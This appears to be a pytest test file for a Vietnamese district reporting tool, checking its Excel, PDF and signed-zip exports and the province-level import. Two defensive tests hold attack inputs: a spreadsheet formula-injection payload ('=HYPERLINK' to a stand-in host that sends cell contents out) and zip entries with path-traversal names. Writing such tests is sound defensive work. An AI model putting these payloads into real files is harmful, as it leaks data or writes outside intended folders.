"""Reports to the province: the workbook, the PDF, the package, the province's import.

Every number in the exports is compared with `check --format json` for the same period.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import shutil
import subprocess
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select, update

from desktop.actions.packages import REASON as PACKAGES_REASON
from desktop.cli import main
from desktop.domain.evaluation import OUTCOME_LABELS
from desktop.domain.vnformat import number as vn_number
from desktop.domain.vnformat import percent as vn_percent
from desktop.store.database import Database
from desktop.store.models import AuditRow, OfficeRow, ProposalRow, UnitRow

REQUIRE_TOOLS = os.environ.get("THIDUA_REQUIRE_TOOLS") == "1"


def run(*argv: object) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main([str(a) for a in argv])
        except SystemExit as exc:  # argparse: a wrong command line
            code = int(exc.code or 0)
    return code, out.getvalue(), err.getvalue()


def need(tool: str) -> str:
    path = shutil.which(tool)
    if path is None:
        if REQUIRE_TOOLS:
            pytest.fail(f"{tool} is required (THIDUA_REQUIRE_TOOLS=1) but not installed")
        pytest.skip(f"{tool} is not installed")
    return path


def check_json(db: Path, period: str = "2023") -> dict:
    code, out, err = run("--db", db, "check", "--period", period, "--format", "json")
    assert code == 0, err
    return json.loads(out)


def nfc(text: str) -> str:
    return unicodedata.normalize("NFC", text)


def add_proposals(db: Path) -> None:
    with Database.open(db, backup=False) as d, d.transaction("Thêm đề nghị (kiểm thử)") as s:
        unit = s.scalar(select(UnitRow).where(UnitRow.code == "22831"))
        assert unit is not None
        award = "Giấy khen của Chủ tịch UBND huyện"
        s.add(
            ProposalRow(
                plan_id=unit.plan_id,
                review="2023",
                award=award,
                kind="collective",
                unit_id=unit.id,
                achievements="Dẫn đầu Bộ chỉ số DTI năm 2023",
            )
        )
        s.add(
            ProposalRow(
                plan_id=unit.plan_id,
                review="2023",
                award=award,
                kind="individual",
                unit_id=unit.id,
                person_name="Trần Văn Bình",
                position="Công chức Văn hóa - Xã hội",
                is_leader=False,
                achievements="Triển khai hồ sơ công việc trên môi trường mạng",
            )
        )


@pytest.fixture
def exported(demo_db: Path, tmp_path: Path) -> dict[str, Path]:
    add_proposals(demo_db)
    out = {
        "db": demo_db,
        "xlsx": tmp_path / "tonghop.xlsx",
        "pdf": tmp_path / "baocao.pdf",
        "package": tmp_path / "ninhson-2023.zip",
    }
    code, _out, err = run(
        "--db",
        demo_db,
        "export",
        "--period",
        "2023",
        "--xlsx",
        out["xlsx"],
        "--pdf",
        out["pdf"],
        "--package",
        out["package"],
        "--number",
        "12",
        "--date",
        "2024-01-05",
    )
    assert code == 0, err
    return out


# ---------------------------------------------------------------------------- workbook


def table_rows(ws) -> tuple[list[str], list[tuple]]:
    """(flat headers, data rows) of a table sheet: the header row is the one starting
    'STT'; grouped columns have their sub-header in the row under it."""
    rows = list(ws.iter_rows(values_only=True))
    h = next(i for i, r in enumerate(rows) if r[0] == "STT")
    top, below = rows[h], rows[h + 1]
    grouped = below[0] is None and any(v is not None for v in below)
    headers, group = [], None
    for i, v in enumerate(top):
        if grouped and below[i] is not None:
            group = v or group
            headers.append(f"{group} {below[i]}".replace("\n", " "))
        else:
            headers.append(str(v or "").replace("\n", " "))
    data = [r for r in rows[h + (2 if grouped else 1) :] if any(v is not None for v in r)]
    return headers, data


def test_workbook_numbers_are_those_of_check(exported: dict[str, Path]) -> None:
    data = check_json(exported["db"])
    wb = openpyxl.load_workbook(exported["xlsx"])
    assert wb.sheetnames == ["TongHop", "ChiTieu", "TienDo", "KhenThuong", "ThongTin"]

    headers, rows = table_rows(wb["TongHop"])
    col = {h: i for i, h in enumerate(headers)}
    by_code = {r[col["Mã"]]: r for r in rows}
    assert len(by_code) == len(data["units"]) == 8
    for u in data["units"]:
        row = by_code[u["code"]]
        assert row[col["Đơn vị"]] == u["name"]
        assert row[col["Kết quả"]] == OUTCOME_LABELS[u["result"]]
        assert row[col["Xếp hạng"]] == u["rank"]
        for c in u["criteria"]:
            if not c["mandatory"]:
                continue
            key = next(
                h
                for h in headers
                if h.split(" ")[-3:-2] == [c["code"]] or f" {c['code']} " in f" {h} "
            )
            cell = row[col[key]]
            if isinstance(c["value"], float | int) and not isinstance(c["value"], bool):
                assert round(cell, 2) == c["value"], (u["code"], c["code"])
            elif c["value"] is None:
                assert cell is None
    # the ranking, best first, ties sharing a rank (1, 2, 3, 3, 5, ...)
    assert [r[col["Xếp hạng"]] for r in rows] == [1, 2, 3, 3, 5, 6, 7, None]
    assert by_code["22816"][col["Tiêu chí không đạt"]] == "XA_HSCV"

    headers, rows = table_rows(wb["ChiTieu"])
    col = {h: i for i, h in enumerate(headers)}
    total = rows[-1]
    assert total[2] == "Toàn huyện"
    for ind in data["indicators"]:
        code = ind["code"]
        if ind["kind"] == "ratio" and ind["units_reporting"]:
            assert total[col[f"{code} Tử số"]] == ind["numerator"]
            assert total[col[f"{code} Mẫu số"]] == ind["denominator"]
            assert round(total[col[f"{code} Tỷ lệ (%)"]], 2) == ind["value"]
        elif ind["kind"] in ("count", "percent", "score") and ind["units_reporting"]:
            key = next(h for h in headers if h.split(" ")[0] == code)
            assert round(total[col[key]], 2) == ind["value"]
    hscv = next(i for i in data["indicators"] if i["code"] == "HSCV_MANG")
    assert (total[col["HSCV_MANG Tử số"]], total[col["HSCV_MANG Mẫu số"]]) == (3257, 4240)
    assert hscv["value"] == 76.82

    headers, rows = table_rows(wb["TienDo"])
    col = {h: i for i, h in enumerate(headers)}
    units = {u["code"]: u for u in data["units"]}
    for r in rows:
        u = units[r[col["Mã"]]]
        received = r[col["Ngày nhận"]]
        assert (received.date().isoformat() if received else None) == u["received_on"]
        if u["received_on"]:
            assert r[col["Trễ (ngày)"]] == u["late_days"]

    headers, rows = table_rows(wb["KhenThuong"])
    names = [r[headers.index("Tên tập thể, cá nhân")] for r in rows]
    assert names == ["Xã Nhơn Sơn", "Trần Văn Bình"]


def test_workbook_formats_print_setup_and_colours(exported: dict[str, Path]) -> None:
    wb = openpyxl.load_workbook(exported["xlsx"])
    for name in ("TongHop", "ChiTieu", "TienDo", "KhenThuong", "ThongTin"):
        ws = wb[name]
        assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
        assert ws.print_title_rows  # repeated on every printed page
        assert ws.sheet_properties.pageSetUpPr.fitToPage
    ws = wb["TongHop"]
    assert ws.freeze_panes == "D5"
    assert ws.print_title_rows == "$1:$4"
    assert all(ws.column_dimensions[c].width >= 5 for c in "ABCDEFG")
    rows = list(ws.iter_rows(min_row=5))
    row = next(r for r in rows if r[1].value == "22816")  # fails XA_HSCV 58,33 %
    headers = [c.value for c in next(ws.iter_rows(min_row=4, max_row=4))]
    hscv = row[next(i for i, h in enumerate(headers) if h and h.startswith("XA_HSCV"))]
    assert hscv.number_format == '0.00" %"' and isinstance(hscv.value, float)
    assert hscv.fill.fgColor.rgb.endswith("FFC7CE")  # red: không đạt
    result = row[3]
    assert result.value == "Không đạt" and result.fill.fgColor.rgb.endswith("FFC7CE")
    ok = next(r for r in rows if r[1].value == "22831")[3]
    assert ok.value == "Đạt" and ok.fill.fgColor.rgb.endswith("C6EFCE")
    tien_do = wb["TienDo"]
    assert tien_do.cell(4, 4).number_format == "dd/mm/yyyy"
    chi_tieu = wb["ChiTieu"]
    assert chi_tieu.cell(5, 4).number_format == "#,##0"


def test_workbook_khen_thuong_may_be_empty_with_a_note(demo_target: str, tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    assert run("--db", demo_target, "export", "--period", "2022", "--xlsx", path)[0] == 0
    ws = openpyxl.load_workbook(path)["KhenThuong"]
    values = [c for r in ws.iter_rows(values_only=True) for c in r if c]
    assert any(str(v).startswith("Không có đề nghị khen thưởng") for v in values)


def test_no_cell_runs_as_a_formula(demo_target: str, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
    with Database.open(demo_target, backup=False) as d, d.transaction("Đổi tên (kiểm thử)") as s:
        s.execute(update(UnitRow).where(UnitRow.code == "22831").values(name=evil))
        s.execute(update(UnitRow).where(UnitRow.code == "22810").values(name="+1-2"))
        s.execute(update(UnitRow).where(UnitRow.code == "22813").values(name="@SUM(1)"))
        s.execute(update(OfficeRow).values(name="-Phòng thử"))
    path = tmp_path / "x.xlsx"
    package = tmp_path / "x.zip"
    argv = ["export", "--period", "2023", "--xlsx", path, "--package", package]
    assert run("--db", demo_target, *argv)[0] == 0
    with zipfile.ZipFile(path) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/"):
                text = z.read(n).decode()
                assert "<f>" not in text and "<f " not in text
    wb = openpyxl.load_workbook(path)
    found = []
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value[:1] in "=+-@":
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
                    found.append(c.value)
    assert evil in found and "+1-2" in found and "@SUM(1)" in found
    with zipfile.ZipFile(package) as z:
        text = z.read("tonghop.csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text


@pytest.mark.libreoffice
def test_workbook_through_libreoffice(exported: dict[str, Path], tmp_path: Path) -> None:
    soffice = need("soffice")
    pdftotext = need("pdftotext")
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path / "lo"),
            str(exported["xlsx"]),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    pdf = tmp_path / "lo" / "tonghop.pdf"
    assert pdf.is_file()
    text = nfc(
        subprocess.run(
            [pdftotext, "-layout", str(pdf), "-"], check=True, capture_output=True, text=True
        ).stdout
    )
    for words in (
        "KẾT QUẢ ĐÁNH GIÁ PHONG TRÀO THI ĐUA",
        "Xã Nhơn Sơn",
        "Không đạt",
        "Toàn huyện",
        "Trần Văn Bình",
        "THÔNG TIN BÁO CÁO",
    ):
        assert words in text
    assert "76.82 %" in text or "76,82 %" in text  # HSCV_MANG toàn huyện
    assert "3,257" in text or "3.257" in text


# ---------------------------------------------------------------------------- PDF


def pdf_text(path: Path) -> str:
    """The PDF's text, NFC, with every run of white space made one space."""
    tool = need("pdftotext")
    text = subprocess.run([tool, str(path), "-"], check=True, capture_output=True, text=True).stdout
    return " ".join(nfc(text).split())


def test_pdf_report_says_what_check_says(exported: dict[str, Path]) -> None:
    data = check_json(exported["db"])
    text = pdf_text(exported["pdf"])
    for words in (
        "UBND HUYỆN NINH SƠN",
        "PHÒNG VĂN HÓA VÀ THÔNG TIN",
        "Số: 12/BC-VHTT",
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Ninh Sơn, ngày 05 tháng 01 năm 2024",
        "BÁO CÁO",
        "Kết quả thực hiện Phong trào thi đua Chuyển đổi số năm 2023 (sơ kết)",
        "KT. TRƯỞNG PHÒNG",
        "PHÓ TRƯỞNG PHÒNG",
        "Nguyễn Thị Hương",
        "Nơi nhận:",
        "Lưu: VT, VHTT",
    ):
        assert words in text, words
    s = data["summary"]
    assert f"Đã nhận báo cáo của {s['submitted']}/{s['expected']} đơn vị" in text
    assert f"{s['on_time']} đơn vị nộp đúng hạn, {s['late']} đơn vị nộp trễ hạn" in text
    assert "Xã Quảng Sơn trễ 3 ngày, Xã Hòa Sơn trễ 5 ngày" in text
    assert "Chưa nộp báo cáo: Xã Ma Nới" in text
    assert f"có {s['pass']} đơn vị đạt, {s['fail']} đơn vị không đạt" in text
    # every failure with the numbers of its explanation
    for u in data["units"]:
        assert u["name"] in text
        for c in u["criteria"]:
            if c["mandatory"] and c["result"] == "fail":
                why = c["explanation"].split(": ", 1)[1]
                assert f"{u['name']}: " in text and f": {why}" in text, why
                assert c["code"] not in text  # names, never the plan's internal codes
    assert "trên môi trường mạng từ 65% trở lên: 58,33 % (35/60) < 65 %" in text
    assert "1 báo cáo đã trả lại để bổ sung, chỉnh sửa (Xã Mỹ Sơn: Thiếu số liệu" in text
    # the ranking table, best first, and the aggregates against the targets
    ranked = sorted((u for u in data["units"] if u["rank"]), key=lambda u: u["rank"])
    positions = [text.index(f"{u['rank']} {u['name']}") for u in ranked]
    assert positions == sorted(positions)
    for ind in data["indicators"]:  # Σ tử số, Σ mẫu số, the weighted percent, in the table
        if ind["kind"] == "ratio" and ind["units_reporting"]:
            row = f"{vn_number(ind['numerator'])} {vn_number(ind['denominator'])} "
            assert row + f"{vn_percent(ind['value'])} {ind['units_reporting']}" in text, row
    assert "3.257 4.240 76,82 % 7" in text
    assert "toàn huyện đạt 88,07 % (10.850/12.320), chưa đạt mục tiêu > 90 %" in text
    assert "Trần Văn Bình" in text and "Đề nghị khen thưởng 1 tập thể và 1 cá nhân" in text


def test_pdf_pages_render(exported: dict[str, Path], tmp_path: Path) -> None:
    pdftoppm = need("pdftoppm")
    subprocess.run(
        [
            pdftoppm,
            "-png",
            "-r",
            "60",
            "-f",
            "1",
            "-l",
            "1",
            str(exported["pdf"]),
            str(tmp_path / "page"),
        ],
        check=True,
        timeout=60,
    )
    pages = list(tmp_path.glob("page*.png"))
    assert len(pages) == 1 and pages[0].stat().st_size > 10_000
    fonts = subprocess.run(
        [need("pdffonts"), str(exported["pdf"])], check=True, capture_output=True, text=True
    ).stdout
    assert "LiberationSerif" in fonts and "Helvetica" not in fonts


# ---------------------------------------------------------------------------- package


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def test_package_manifest_checksums_csv_and_data(exported: dict[str, Path]) -> None:
    data = check_json(exported["db"])
    m = members(exported["package"])
    manifest = json.loads(m["manifest.json"])
    assert manifest["format_version"] == "2"  # signed (format 1: before signing)
    assert manifest["plan"]["code"] == "ninh-son-2022" and manifest["period"]["code"] == "2023"
    assert manifest["office"]["name"] == "Phòng Văn hóa và Thông tin"
    assert manifest["app_version"] and manifest["generated_at"]
    assert set(manifest["sha256"]) == set(m) - {"manifest.json", "signature.json"}
    for name, digest in manifest["sha256"].items():
        assert hashlib.sha256(m[name]).hexdigest() == digest, name
    assert {
        "data.json",
        "bang-tong-hop.xlsx",
        "bao-cao.pdf",
        "tonghop.csv",
        "chitieu.csv",
        "tiendo.csv",
        "khenthuong.csv",
    } <= set(m)
    for name in ("tonghop.csv", "chitieu.csv", "tiendo.csv"):
        assert m[name].startswith(b"\xef\xbb\xbf"), name
    # the CSV holds the same results and ranks
    import csv

    rows = list(csv.DictReader(io.StringIO(m["tonghop.csv"].decode("utf-8-sig"))))
    units = {u["code"]: u for u in data["units"]}
    assert {r["Mã"] for r in rows} == set(units)
    for r in rows:
        assert r["Kết quả"] == OUTCOME_LABELS[units[r["Mã"]]["result"]]
        assert r["Xếp hạng"] == str(units[r["Mã"]]["rank"] or "")
    total = list(csv.DictReader(io.StringIO(m["chitieu.csv"].decode("utf-8-sig"))))[-1]
    assert total["Đơn vị"] == "Toàn huyện"
    assert (total["HSCV_MANG Tử số"], total["HSCV_MANG Mẫu số"]) == ("3257", "4240")
    # data.json: the aggregates and results of check, the plan definition, the values
    d = json.loads(m["data.json"])
    aggs = {a["code"]: a for a in d["aggregates"]}
    for ind in data["indicators"]:
        a = aggs[ind["code"]]
        for key in ("numerator", "denominator", "value"):
            if ind[key] is not None and a[key] is not None:
                assert round(a[key], 2) == ind[key], (ind["code"], key)
        assert a["units_reporting"] == ind["units_reporting"]
    assert {r["unit"]: (r["result"], r["rank"]) for r in d["results"]} == {
        u["code"]: (u["result"], u["rank"]) for u in data["units"]
    }
    sub = next(s for s in d["submissions"] if s["unit"] == "22816")
    assert sub["values"]["HSCV_MANG"] == {"numerator": 35, "denominator": 60}
    assert sub["values"]["DANG_KY_TD"] == {"flag": True}
    assert sub["values"]["NGAY_KH_PD"] == {"date": "2022-09-20"}
    assert sub["values"]["SANG_KIEN"] == {"number": 1}
    assert d["plan"]["plan"]["code"] == "ninh-son-2022"
    assert len(d["plan"]["criteria"]) == 21 and len(d["plan"]["units"]) == 8
    assert [p["name"] for p in d["proposals"]] == ["Xã Nhơn Sơn", "Trần Văn Bình"]
    from desktop.domain.plan_schema import parse_plan

    assert parse_plan(d["plan"]).criteria[3].threshold == 65.0  # the province can rebuild it


def province_indicators(db: Path, period: str = "2023") -> dict[str, dict]:
    return {i["code"]: i for i in check_json(db, period)["indicators"]}


def second_district(demo_db: Path, tmp_path: Path, area: str = "huyện Bác Ái") -> Path:
    """The demo data again, as another district (its office's area changed)."""
    other = tmp_path / "other.db"
    shutil.copyfile(demo_db, other)
    code, _o, err = run("--db", other, "office", "--set", f"area={area}")
    assert code == 0, err
    pkg = tmp_path / "other.zip"
    assert run("--db", other, "export", "--period", "2023", "--package", pkg)[0] == 0
    return pkg


def last_audit_reason(path: Path, table: str) -> str:
    with Database.open(path, write=False) as d, d.reading() as s:
        return s.scalars(select(AuditRow.summary).where(AuditRow.table_name == table)
                         .order_by(AuditRow.id.desc()).limit(1)).one()


def test_province_reimport_gives_the_same_aggregates(
    exported: dict[str, Path], tmp_path: Path
) -> None:
    district = {i["code"]: i for i in check_json(exported["db"])["indicators"]}
    prov = tmp_path / "province.db"
    code, out, err = run("--db", prov, "import-package", "--trust-new", exported["package"])
    assert code == 0, err
    assert "Huyện Ninh Sơn" in out
    assert last_audit_reason(prov, "submission") == PACKAGES_REASON  # as the window's
    got = province_indicators(prov)
    for code_, ind in district.items():
        if ind["kind"] in ("ratio", "count", "percent", "score"):
            assert (got[code_]["numerator"], got[code_]["denominator"], got[code_]["value"]) == (
                ind["numerator"],
                ind["denominator"],
                ind["value"],
            ), code_
    units = check_json(prov)["units"]
    assert [(u["code"], u["kind"]) for u in units] == [("huyen-ninh-son", "district")]
    # the same export works one level up: the last row is "Toàn tỉnh"
    xlsx = tmp_path / "tinh.xlsx"
    assert run("--db", prov, "export", "--period", "2023", "--xlsx", xlsx)[0] == 0
    _h, rows = table_rows(openpyxl.load_workbook(xlsx)["ChiTieu"])
    assert rows[-1][2] == "Toàn tỉnh"


def test_province_ratio_is_weighted_over_all_communes(
    exported: dict[str, Path], tmp_path: Path
) -> None:
    other_pkg = second_district(exported["db"], tmp_path)
    prov = tmp_path / "province.db"
    code, _o, err = run("--db", prov, "import-package", "--trust-new", exported["package"],
                        other_pkg)
    assert code == 0, err
    got = province_indicators(prov)
    district = {i["code"]: i for i in check_json(exported["db"])["indicators"]}
    hscv = got["HSCV_MANG"]
    assert (hscv["numerator"], hscv["denominator"]) == (2 * 3257, 2 * 4240)
    assert hscv["value"] == round(2 * 3257 / (2 * 4240) * 100, 2)
    assert got["SANG_KIEN"]["value"] == 2 * district["SANG_KIEN"]["value"]
    assert got["HSCV_MANG"]["units_reporting"] == 2
    assert {u["code"] for u in check_json(prov)["units"]} == {"huyen-ninh-son", "huyen-bac-ai"}


def _rezip(src: Path, dst: Path, change) -> Path:
    m = members(src)
    change(m)
    with zipfile.ZipFile(dst, "w") as z:
        for name, data in m.items():
            z.writestr(name, data)
    return dst


def _resign(m: dict[str, bytes], **manifest_changes: object) -> None:
    manifest = json.loads(m["manifest.json"])
    manifest["sha256"] = {
        n: hashlib.sha256(d).hexdigest() for n, d in m.items() if n != "manifest.json"
    }
    manifest.update(manifest_changes)
    m["manifest.json"] = json.dumps(manifest).encode()


def assert_refused(prov: Path, *files: Path, words: str) -> None:
    code, _out, err = run("--db", prov, "import-package", "--trust-new", *files)
    assert code == 1
    assert words in err and "Không có gì được ghi" in err, err
    if prov.exists():  # nothing written: no plan, no unit, no submission
        with Database.open(prov, write=False) as d, d.reading() as s:
            assert s.scalar(select(UnitRow.id)) is None


def test_refuses_a_tampered_member(exported: dict[str, Path], tmp_path: Path) -> None:
    def tamper(m: dict[str, bytes]) -> None:
        m["data.json"] = m["data.json"].replace(b'"numerator": 3257', b'"numerator": 4000')

    bad = _rezip(exported["package"], tmp_path / "bad.zip", tamper)
    assert_refused(tmp_path / "p.db", bad, words="SHA-256 của data.json không khớp")
    # with a good one first: all or nothing
    assert_refused(tmp_path / "p.db", exported["package"], bad, words="không khớp")


def test_refuses_an_unknown_format_version(exported: dict[str, Path], tmp_path: Path) -> None:
    bad = _rezip(exported["package"], tmp_path / "v9.zip", lambda m: _resign(m, format_version="9"))
    assert_refused(tmp_path / "p.db", bad, words="phiên bản định dạng “9” không được hỗ trợ")


def test_refuses_a_path_that_escapes(exported: dict[str, Path], tmp_path: Path) -> None:
    for evil in ("../evil.txt", "/etc/evil.txt", "a/../../evil.txt", "C:/evil.txt"):

        def add(m: dict[str, bytes], evil: str = evil) -> None:
            m[evil] = b"x"
            _resign(m)

        bad = _rezip(exported["package"], tmp_path / "evil.zip", add)
        assert_refused(tmp_path / "p.db", bad, words="đường dẫn không an toàn")


def test_refuses_what_is_not_a_zip(exported: dict[str, Path], tmp_path: Path) -> None:
    junk = tmp_path / "junk.zip"
    junk.write_bytes(b"PK\x03\x04 not really a zip " * 20)
    assert_refused(tmp_path / "p.db", junk, words="không phải tệp .zip hợp lệ")
    cut = tmp_path / "cut.zip"
    cut.write_bytes(exported["package"].read_bytes()[:-200])
    assert_refused(tmp_path / "p.db", cut, words="Gói cut.zip")


def test_refuses_a_district_twice_without_replace(
    exported: dict[str, Path], tmp_path: Path
) -> None:
    prov = tmp_path / "p.db"
    assert run("--db", prov, "import-package", "--trust-new", exported["package"])[0] == 0
    code, _out, err = run("--db", prov, "import-package", "--trust-new", exported["package"])
    assert code == 1 and "Đã có báo cáo của Huyện Ninh Sơn" in err and "--replace" in err
    code, out, err = run("--db", prov, "import-package", "--trust-new", exported["package"],
                         "--replace")
    assert code == 0 and "Đã thay thế" in out, err
    # twice in one command
    code, _out, err = run(
        "--db", tmp_path / "q.db", "import-package", "--trust-new", exported["package"],
        exported["package"]
    )
    assert code == 1 and "đã có trong gói" in err


def test_refuses_a_package_of_another_plan(exported: dict[str, Path], tmp_path: Path) -> None:
    prov = tmp_path / "p.db"
    assert run("--db", prov, "import-package", "--trust-new", exported["package"])[0] == 0
    other = tmp_path / "qn.db"
    assert run("--db", other, "init", "--plan", "quang-ninh-2022")[0] == 0
    pkg = tmp_path / "qn.zip"
    code, _o, err = run("--db", other, "export", "--period", "2023", "--package", pkg)
    assert code == 0, err
    code, _out, err = run("--db", prov, "import-package", "--trust-new", pkg)
    assert code == 1 and "gói thuộc kế hoạch 'quang-ninh-2022'" in err
    assert len(check_json(prov)["units"]) == 1  # unchanged
    # a district database is not a province database
    code, _out, err = run("--db", exported["db"], "import-package", "--trust-new",
                          exported["package"])
    assert code == 1 and "không phải cơ sở dữ liệu tổng hợp cấp tỉnh" in err


# ---------------------------------------------------------------------------- office


def test_office_settings_show_and_change(demo_target: str) -> None:
    code, out, _ = run("--db", demo_target, "office", "--format", "json")
    assert code == 0
    office = json.loads(out)
    assert office["parent_body"] == "UBND huyện Ninh Sơn"
    assert office["signer_name"] == "Nguyễn Thị Hương"
    code, out, err = run(
        "--db",
        demo_target,
        "office",
        "--set",
        "signer_name=Lê Văn Tâm",
        "recipients=Sở KH&CN (b/c); UBND huyện (b/c); Lưu: VT, VHTT",
        "doc_number_prefix=/BC-VHTT",
    )
    assert code == 0, err
    assert "signer_name: Nguyễn Thị Hương → Lê Văn Tâm" in out
    office = json.loads(run("--db", demo_target, "office", "--format", "json")[1])
    assert office["signer_name"] == "Lê Văn Tâm"
    assert office["recipients"] == ["Sở KH&CN (b/c)", "UBND huyện (b/c)", "Lưu: VT, VHTT"]
    with Database.open(demo_target, write=False) as d, d.reading() as s:
        audit = s.scalars(
            select(AuditRow).where(AuditRow.table_name == "office", AuditRow.field == "signer_name")
        ).all()
    assert audit and audit[-1].new_value == "Lê Văn Tâm"
    assert audit[-1].summary == "Thay đổi thông tin cơ quan báo cáo"
    code, _out, err = run("--db", demo_target, "office", "--set", "colour=red")
    assert code == 1 and "Không có thiết lập 'colour'" in err
    code, _out, err = run("--db", demo_target, "office", "--set", "place")
    assert code == 1 and "KHÓA=GIÁ_TRỊ" in err


def test_export_needs_a_target(demo_db: Path) -> None:
    code, _out, err = run("--db", demo_db, "export", "--period", "2023")
    assert code == 2 and "--xlsx" in err
    code, _out, err = run("--db", demo_db, "export", "--period", "2030", "--xlsx", "x.xlsx")
    assert code == 1 and "Không có kỳ báo cáo '2030'" in err
    missing = demo_db.parent / "no-such-folder" / "x.xlsx"
    code, _out, err = run("--db", demo_db, "export", "--period", "2023", "--xlsx", missing)
    assert code == 1 and "Không tìm thấy thư mục" in err and "Traceback" not in err


@pytest.mark.slow
def test_two_thousand_units_export_whole(tmp_path: Path) -> None:
    """A provincial department with 2,000 communes: every row is there, numbers intact."""
    import datetime as dt
    import random

    from desktop.domain.office import OfficeSettings
    from desktop.domain.period_report import SubmissionInfo, build_period_report
    from desktop.domain.plan import Unit
    from desktop.domain.values import Value
    from desktop.exchange.export_input import ExportInput
    from desktop.exchange.export_xlsx import write_xlsx
    from desktop.plan_catalog import load_bundled

    rnd = random.Random(7)
    plan = load_bundled("ninh-son-2022")
    units = [Unit(f"{30000 + i}", f"Xã Thử {i}", "commune") for i in range(2000)]
    subs = {}
    for u in units[:1900]:
        d = rnd.randint(50, 900)
        subs[u.code] = SubmissionInfo(
            u.code,
            dt.date(2023, 12, rnd.randint(1, 28)),
            "email",
            "received",
            {
                "HSCV_MANG": Value(numerator=rnd.randint(0, d), denominator=d),
                "DIEM_DTI": Value(number=rnd.randint(400, 950) / 10),
            },
        )
    report = build_period_report(plan, plan.period("2023"), units, subs)
    path = tmp_path / "big.xlsx"
    write_xlsx(ExportInput(report, OfficeSettings()), path)  # (its time: tests/benchmarks)
    wb = openpyxl.load_workbook(path, read_only=True)
    _h, rows = table_rows(wb["ChiTieu"])
    assert len(rows) == 2001 and rows[-1][2] == "Toàn huyện"
    hscv = report.aggregate_of("HSCV_MANG")
    assert (rows[-1][3], rows[-1][4]) == (hscv.numerator, hscv.denominator)
